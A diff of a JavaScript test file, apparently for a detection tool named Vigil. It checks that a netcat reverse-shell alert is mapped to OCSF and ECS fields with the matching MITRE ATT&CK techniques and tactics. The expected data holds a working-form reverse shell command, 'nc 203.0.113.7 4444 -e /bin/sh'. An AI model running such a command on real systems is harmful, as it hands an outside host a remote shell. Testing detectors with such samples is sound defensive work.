@@ -33,7 +33,7 @@ test('OCSF Detection Finding (2004): required attributes, enums, and the key fac
   assert.ok(o.metadata.product.name && o.metadata.product.vendor_name);
   assert.ok(o.finding_info.uid && o.finding_info.title, 'finding_info.uid and title');
   assert.deepEqual([o.finding_info.analytic.uid, o.finding_info.analytic.type_id], ['vigil-netcat-reverse-shell', 1]);
-  assert.equal(o.finding_info.attacks[0].technique.uid, 'T1059.004');
+  assert.deepEqual(o.finding_info.attacks.map((x) => [x.technique.uid, x.tactics.map((t) => t.name)]), [['T1059.004', ['Execution']], ['T1095', ['Command and Control']]], 'each technique with its own tactics');
   assert.equal(o.device.hostname, 'web-3.example');
   assert.equal(o.actor.user.name, 'www-data');
   assert.equal(o.evidences[0].file?.path, '/tmp/.x/payload');
@@ -51,7 +51,7 @@ test('ECS: @timestamp, ecs.version, allowed event categorisation, and the key fa
   assert.ok(e.event.type.every((t) => ['info', 'allowed', 'denied'].includes(t)), 'types allowed with intrusion_detection');
   assert.deepEqual([e.rule.id, e.rule.name, e.rule.author, e.host.name, e.user.name, e.process.command_line, e.file?.path, e.destination?.ip, e.destination?.port],
     ['vigil-netcat-reverse-shell', 'Netcat reverse shell', ['Vigil'], 'web-3.example', 'www-data', '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', '/tmp/.x/payload', '203.0.113.7', 4444]);
-  assert.equal(e.threat[0].framework, 'MITRE ATT&CK');
+  assert.deepEqual(e.threat.map((t) => [t.framework, t.technique[0].id, t.tactic.name]), [['MITRE ATT&CK', 'T1059.004', ['Execution']], ['MITRE ATT&CK', 'T1095', ['Command and Control']]]);
   assert.equal(e.event.severity, 73);
 });
 
